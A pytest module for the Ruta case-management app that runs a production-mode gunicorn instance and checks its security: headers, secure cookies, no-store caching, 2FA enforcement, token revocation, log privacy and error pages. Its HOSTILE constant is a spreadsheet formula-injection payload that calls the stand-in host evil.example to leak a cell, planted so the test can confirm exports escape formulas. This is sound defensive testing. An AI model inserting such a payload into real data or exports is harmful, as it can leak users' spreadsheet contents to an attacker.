"""A production-mode instance passes the security probes (issue #14, "Done when").

The other security tests run in-process under ``ruta.test_settings``. This module starts
Ruta as an operator would: ``ruta.settings`` with ``DEBUG=false``, a generated secret key
and field key, ``ALLOWED_HOSTS``, ``collectstatic``, and gunicorn with the repository's
``gunicorn.conf.py``, on a fresh SQLite database migrated here (whatever database the
suite runs on). A few accounts and cases are made in that database through the ORM and
the case actions. Requests then come as through the TLS-terminating proxy the README
asks for: ``X-Forwarded-Proto: https``, and the ``Secure`` cookies handed back.

The probes: HTTPS redirect and HSTS, the security headers and ``Permissions-Policy``,
secure cookies, ``no-store`` on case data, 404 for cases out of reach, 2FA enrolment
forced on an agency admin (web and API), API tokens revoked by logout and by "log out
everywhere", huge page numbers clamped, the access log without query strings, list reads
audited with ids only, and a database failure answered with the plain error page (no
traceback) and recovered from without restarting the server.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import secrets
import socket
import sqlite3
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
from cryptography.fernet import Fernet
from django_otp.oath import totp

from ruta.lib.sheets import is_formula_like, unescape

# One worker builds the production instance (25 s) and runs every probe on it (the group
# keeps them together). A session fixture, it is built once whatever runs between probes.
pytestmark = [pytest.mark.production, pytest.mark.xdist_group("production_instance")]

ROOT = Path(__file__).resolve().parents[3]
GUNICORN = Path(sys.executable).with_name("gunicorn")
CLEARED_PREFIXES = ("DJANGO_", "RUTA_", "SECURE_", "SECRET_KEY", "DATABASE_URL", "DB_", "EMAIL_")
CLEARED = {"DEBUG", "ALLOWED_HOSTS", "CSRF_TRUSTED_ORIGINS", "STATIC_ROOT", "MEDIA_ROOT"}
HTTPS = {"X-Forwarded-Proto": "https"}
STATIC_SKIPPED = ("-i", "drf_spectacular_sidecar", "-i", "rest_framework", "-i", "django_htmx")
LEAKS = ("Traceback", 'File "/', "OperationalError", "sqlite", "django.", "no such table")

# Run inside the production process: two agencies, a caseworker in each with a case, and
# an agency admin who has not enrolled 2FA. The caseworker gets one authenticator device
# per login the probes make: a code is accepted once per device and 30-second step.
DEVICES = 6
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'  # a directory service's name
SETUP = """
import json
from django_otp.plugins.otp_totp.models import TOTPDevice
from ruta.accounts.models import User
from ruta.agencies.models import Organization
from ruta.cases import actions
from ruta.cases.models import ConsentMethod, ConsentPurpose
from ruta.directory.tests.factories import make_service

password = {password!r}
care = Organization.objects.create(name="Care Probe", acronym="CARE", type="ngo")
hias = Organization.objects.create(name="Hias Probe", acronym="HIAS", type="ngo")

def person(email, role, org):
    return User.objects.create_user(
        email=email, password=password, role=role, organization=org, full_name="Probe"
    )

def case(user, name):
    opened = actions.register_case(
        user,
        client_fields={{"given_names": name, "family_names": "Probe", "phone": "+51 900 555 111",
                        "sex": "female", "gender_identity": "woman", "age": 31}},
        case_type="gbv",
    )
    actions.record_consent(user, opened, purpose=ConsentPurpose.SERVICES, method=ConsentMethod.VERBAL)
    return str(opened.uuid)

caseworker = person("cw@care.example.org", "caseworker", care)
keys = []
for n in range({devices}):
    device = TOTPDevice.objects.create(user=caseworker, name=f"probe {{n}}", confirmed=True)
    keys.append(device.key)
other = person("cw@hias.example.org", "caseworker", hias)
TOTPDevice.objects.create(user=other, name="probe", confirmed=True)
person("admin@care.example.org", "agency_admin", care)
make_service(care, {hostile!r}, phones=(("+51 900 000 000", True),))
print(json.dumps({{
    "keys": keys,
    "case": case(caseworker, "Rosalind"),
    "other_case": case(other, "Hortensia"),
}}))
"""


class ProxiedSession(requests.Session):
    """A browser behind the TLS proxy: it asked for https (``X-Forwarded-Proto``) and so
    hands the ``Secure`` cookies back, which requests would keep for https URLs only."""

    def __init__(self) -> None:
        super().__init__()
        self.headers.update(HTTPS)

    def request(self, method: str | bytes, url: str | bytes, *args: Any, **kwargs: Any) -> Any:
        for cookie in self.cookies:
            cookie.secure = False  # the copy sent on this hop; Set-Cookie said Secure
        kwargs["allow_redirects"] = False  # each answer is looked at as it comes
        return super().request(method, url, *args, **kwargs)


@dataclass
class Instance:
    base: str
    password: str
    data: dict[str, Any]
    access_log: Path
    database: Path
    process: subprocess.Popen[bytes]

    def url(self, path: str) -> str:
        return self.base + path

    def get(self, path: str, session: requests.Session | None = None) -> Any:
        return (session or ProxiedSession()).get(self.url(path))

    def post(
        self, session: requests.Session, path: str, data: dict[str, Any], form_page: str = ""
    ) -> Any:
        """POST ``data`` with the CSRF token of the form on ``form_page`` (default: ``path``)."""
        page = session.get(self.url(form_page or path))
        origin = self.base.replace("http://", "https://")
        return session.post(
            self.url(path),
            data={"csrfmiddlewaretoken": _csrf(page.text), **data},
            headers={"Origin": origin, "Referer": origin + path},
        )

    def log_in(self, email: str, device: int | None = None) -> ProxiedSession:
        """Password, then (``device``: which of the caseworker's devices) the TOTP code."""
        session = ProxiedSession()
        sent = self.post(session, "/cuenta/entrar/", {"username": email, "password": self.password})
        assert sent.status_code == 302, sent.status_code
        session.login_cookies = sent.headers.get("Set-Cookie", "")  # type: ignore[attr-defined]
        if device is not None:
            assert sent.headers["Location"] == "/cuenta/entrar/verificar/"
            code = _code(self.data["keys"][device])
            verified = self.post(session, "/cuenta/entrar/verificar/", {"token": code})
            assert verified.status_code == 302, verified.status_code
            session.login_cookies = verified.headers.get("Set-Cookie", "")  # type: ignore[attr-defined]
        return session

    def audit(self, query: str, *args: Any) -> list[tuple[Any, ...]]:
        with sqlite3.connect(self.database) as db:
            return db.execute(query, args).fetchall()


def _csrf(text: str) -> str:
    found = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', text)
    assert found, "no CSRF token on the page"
    return found.group(1)


def _code(key_hex: str) -> str:
    return f"{totp(bytes.fromhex(key_hex)):06d}"


def _env(folder: Path) -> dict[str, str]:
    env = {
        key: value
        for key, value in os.environ.items()
        if key not in CLEARED and not key.startswith(CLEARED_PREFIXES)
    }
    env.update(
        DJANGO_SETTINGS_MODULE="ruta.settings",
        DEBUG="false",
        SECRET_KEY=secrets.token_urlsafe(50),
        RUTA_FIELD_KEYS=Fernet.generate_key().decode(),
        DATABASE_URL=f"sqlite:///{folder / 'production.sqlite3'}",
        ALLOWED_HOSTS="127.0.0.1",
        STATIC_ROOT=str(folder / "static"),
        MEDIA_ROOT=str(folder / "media"),
        LOG_LEVEL="ERROR",
    )
    return env


def _manage(env: dict[str, str], *args: str) -> str:
    result = subprocess.run(  # noqa: S603  (our own interpreter and manage.py)
        [sys.executable, "manage.py", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return result.stdout


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


@pytest.fixture(scope="session")
def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Instance]:
    folder = tmp_path_factory.mktemp("production")
    env = _env(folder)
    password = "probe-" + secrets.token_urlsafe(16)
    _manage(env, "migrate", "--no-input", "-v", "0")
    # The API documentation bundles (28 MB, minutes of compression on a busy machine) are
    # left out: no page the probes visit uses them.
    _manage(env, "collectstatic", "--no-input", "-v", "0", *STATIC_SKIPPED)
    made = _manage(
        env, "shell", "-c", SETUP.format(password=password, devices=DEVICES, hostile=HOSTILE)
    )
    data = json.loads(made.strip().splitlines()[-1])  # after the shell's own chatter
    port = _free_port()
    access_log = folder / "access.log"
    process = subprocess.Popen(  # noqa: S603  (the venv's gunicorn, our own app)
        [
            str(GUNICORN),
            "ruta.wsgi",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            "2",
            "--no-control-socket",
            "--access-logfile",
            str(access_log),
            "--error-logfile",
            str(folder / "error.log"),
        ],
        cwd=ROOT,  # gunicorn.conf.py, the access log format, is read from here
        env=env,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(150):
            try:
                if requests.get(base + "/healthz", timeout=5).status_code == 200:
                    break
            except requests.RequestException:  # not listening yet, or workers still booting
                pass
            assert process.poll() is None, (folder / "error.log").read_text()
            time.sleep(0.2)
        else:
            pytest.fail("gunicorn did not answer /healthz")
        yield Instance(base, password, data, access_log, folder / "production.sqlite3", process)
    finally:
        process.terminate()
        process.wait(timeout=30)


def test_plain_http_is_sent_to_https_but_the_health_check_is_not(instance: Instance) -> None:
    plain = requests.get(instance.url("/servicios/"), allow_redirects=False, timeout=10)
    assert plain.status_code == 301
    assert plain.headers["Location"].startswith("https://127.0.0.1")
    health = requests.get(instance.url("/healthz"), allow_redirects=False, timeout=10)
    assert health.status_code == 200
    assert health.json()["database"] == "ok"


def test_public_pages_send_the_security_headers(instance: Instance) -> None:
    response = instance.get("/servicios/")
    assert response.status_code == 200
    headers = response.headers
    assert headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    csp = headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    policy = headers["Permissions-Policy"]
    assert "camera=()" in policy and "microphone=()" in policy
    # The finder may ask for the visitor's location ("use my location"); no other page may.
    assert "geolocation=(self)" in policy
    assert "geolocation=()" in instance.get("/cuenta/entrar/").headers["Permissions-Policy"]


def test_cookies_are_secure_and_case_pages_are_never_stored(instance: Instance) -> None:
    csrf_cookie = instance.get("/cuenta/entrar/").headers["Set-Cookie"]
    assert csrf_cookie.startswith("csrftoken=")
    for flag in ("Secure", "HttpOnly", "SameSite=Lax"):
        assert flag in csrf_cookie

    session = instance.log_in("cw@care.example.org", device=0)
    session_cookie = session.login_cookies  # type: ignore[attr-defined]
    assert "sessionid=" in session_cookie
    for flag in ("Secure", "HttpOnly", "SameSite=Lax"):
        assert flag in session_cookie
    case = instance.get(f"/casos/{instance.data['case']}/", session)
    assert case.status_code == 200
    assert "Rosalind" in case.text
    assert "no-store" in case.headers["Cache-Control"]
    assert "private" in case.headers["Cache-Control"]
    assert "geolocation=()" in case.headers["Permissions-Policy"]
    listing = instance.get("/casos/", session)
    assert listing.status_code == 200 and "no-store" in listing.headers["Cache-Control"]


def test_cases_out_of_reach_are_404_like_missing_ones(instance: Instance) -> None:
    session = instance.log_in("cw@care.example.org", device=1)
    other = instance.get(f"/casos/{instance.data['other_case']}/", session)
    missing = instance.get("/casos/00000000-0000-4000-8000-000000000000/", session)
    assert other.status_code == missing.status_code == 404
    assert "Hortensia" not in other.text
    for response in (other, missing):
        assert not any(leak in response.text for leak in LEAKS)
        assert "no-store" in response.headers["Cache-Control"]


def test_an_agency_admin_must_enrol_2fa_first(instance: Instance) -> None:
    session = instance.log_in("admin@care.example.org")
    users = instance.get("/usuarios/", session)
    assert users.status_code == 302
    assert users.headers["Location"].startswith("/cuenta/seguridad/2fa/")
    token = ProxiedSession().post(
        instance.url("/api/v1/auth/token/"),
        json={"email": "admin@care.example.org", "password": instance.password},
    )
    assert token.status_code == 403
    assert token.json()["code"] == "2fa_enrolment_required"


def test_api_tokens_die_on_logout_and_on_log_out_everywhere(instance: Instance) -> None:
    def token(device: int) -> ProxiedSession:
        client = ProxiedSession()
        issued = client.post(
            instance.url("/api/v1/auth/token/"),
            json={
                "email": "cw@care.example.org",
                "password": instance.password,
                "otp": _code(instance.data["keys"][device]),
            },
        )
        assert issued.status_code == 200, issued.text
        client.headers["Authorization"] = f"Token {issued.json()['token']}"
        return client

    def cases(client: ProxiedSession) -> int:
        response = instance.get("/api/v1/cases/", client)
        if response.status_code == 200:
            assert "no-store" in response.headers["Cache-Control"]
        return int(response.status_code)

    first = token(device=2)
    assert cases(first) == 200
    assert first.post(instance.url("/api/v1/auth/logout/")).status_code == 204
    assert cases(first) == 401

    # Another token, then "log out of all sessions" on the website: the token dies too.
    second = token(device=3)
    assert cases(second) == 200
    session = instance.log_in("cw@care.example.org", device=4)
    everywhere = instance.post(
        session, "/cuenta/seguridad/cerrar-sesiones/", {}, form_page="/cuenta/seguridad/"
    )
    assert everywhere.status_code == 302
    assert cases(second) == 401


def test_huge_page_numbers_are_clamped(instance: Instance) -> None:
    huge = "99999999999999999999"
    assert instance.get(f"/api/hsds/services?page={huge}").status_code in (200, 404)
    assert instance.get(f"/servicios/?page={huge}").status_code == 200


def test_public_exports_hand_spreadsheets_no_formula(instance: Instance) -> None:
    archive = instance.get("/api/hsds/export.zip")
    assert archive.status_code == 200
    cells: list[str] = []
    with zipfile.ZipFile(io.BytesIO(archive.content)) as files:
        for name in files.namelist():
            if name.endswith(".csv"):
                text = files.read(name).decode("utf-8-sig")
                cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    three_w = instance.get("/directorio/informes/3w.csv")
    assert three_w.status_code == 200
    cells += [c for row in csv.reader(io.StringIO(three_w.text)) for c in row]
    assert [cell for cell in cells if is_formula_like(cell)] == []
    assert HOSTILE in {unescape(cell) for cell in cells}  # kept, as text
    assert "+51 900 000 000" in cells  # a phone number is not mangled


def test_the_access_log_keeps_no_search_words(instance: Instance) -> None:
    assert instance.get("/servicios/?q=violencia+sexual").status_code == 200
    text = ""
    for _ in range(50):  # written by the worker as the response goes out
        text = instance.access_log.read_text(encoding="utf-8")
        if '"GET /servicios/ ' in text:
            break
        time.sleep(0.1)
    assert '"GET /servicios/ HTTP/1.1" 200' in text
    assert "violencia" not in text and "q=" not in text
    assert "127.0.0.1" not in text  # nor the client's address


def test_list_reads_are_audited_with_ids_only(instance: Instance) -> None:
    session = instance.log_in("cw@care.example.org", device=5)
    assert instance.get("/casos/", session).status_code == 200
    rows = instance.audit("SELECT action, details FROM audit_auditevent")
    assert any(instance.data["case"] in details for _action, details in rows)
    for _action, details in rows:
        for value in ("Rosalind", "Hortensia", "900 555 111"):
            assert value not in details


def test_zz_a_database_failure_is_a_plain_error_page_and_the_server_recovers(
    instance: Instance,
) -> None:
    """Last in the module: the database goes away under the running server (a directory
    stands where its file was: SQLite cannot open it), then comes back."""
    files = [Path(f"{instance.database}{suffix}") for suffix in ("", "-wal", "-shm")]
    moved = [(f, f.with_name(f.name + ".away")) for f in files if f.exists()]
    for path, away in moved:
        path.rename(away)
    instance.database.mkdir()
    try:
        page = instance.get("/servicios/")
        assert page.status_code == 500
        assert not any(leak in page.text for leak in LEAKS), page.text
        assert "<h1>" in page.text
        health = instance.get("/healthz")
        assert health.status_code == 503
        assert health.json()["database"] == "unreachable"
    finally:
        instance.database.rmdir()
        for path, away in moved:
            away.rename(path)
    assert instance.get("/healthz").status_code == 200
    assert instance.get("/servicios/").status_code == 200
    assert instance.process.poll() is None  # the same server, never restarted
